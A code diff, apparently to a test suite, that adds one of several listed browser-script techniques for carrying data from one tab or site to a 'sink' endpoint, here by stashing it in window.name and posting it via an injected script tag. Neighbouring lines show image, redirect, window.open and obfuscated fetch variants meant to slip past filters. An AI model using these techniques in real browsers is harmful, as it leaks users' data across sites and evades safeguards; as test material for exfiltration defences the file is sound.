@@ -107,6 +107,9 @@ def _scripts() -> Iterator[Way]:
     yield way("evaluate at B", run(sends, at_b=True))
     yield way("evaluate at B, address", run("location.href = 'SINK?d=DATA'", at_b=True))
     yield way("evaluate at B, image", run("new Image().src = 'SINK?d=' + encodeURIComponent(`DATA`)", at_b=True))
+    yield way("evaluate at B, name of the window", lambda world, data: [
+        {"action": "evaluate", "script": f"window.name = `{data}`", "browser_id": world.tab_b},
+        {"action": "navigate", "url": world.site_a.page("<script>fetch('/sink', {method: 'POST', body: window.name})</script>", "/named").replace("127.0.0.1", "localhost"), "browser_id": world.tab_b}])
     yield way("evaluate at B, window", run("void window.open('SINK?d=' + encodeURIComponent(`DATA`))", at_b=True))
     yield way("evaluate, pieces joined", lambda world, data: [{"action": "evaluate", "script": f"fetch('{world.site_a.other('/sink')}', {{method: 'POST', mode: 'no-cors', body: {' + '.join(repr(piece) for piece in pieces(data, 9))}}})"}])
     yield way("evaluate, codes", lambda world, data: [{"action": "evaluate", "script": f"fetch('{world.site_a.other('/sink')}', {{method: 'POST', mode: 'no-cors', body: String.fromCharCode({','.join(str(ord(one)) for one in data)})}})"}])
